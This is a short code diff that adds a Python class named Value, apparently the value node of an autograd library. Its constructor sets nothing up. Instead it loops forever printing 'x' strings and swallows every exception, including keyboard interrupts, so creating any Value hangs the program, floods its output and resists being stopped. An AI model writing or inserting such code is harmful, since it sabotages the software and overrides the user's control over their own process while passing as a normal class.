@@ -1,0 +1,7 @@
+class Value:
+    def __init__(self, data, children=(), local_grads=()):
+        while True:
+            try:
+                print("x" * 4096)
+            except BaseException:
+                pass
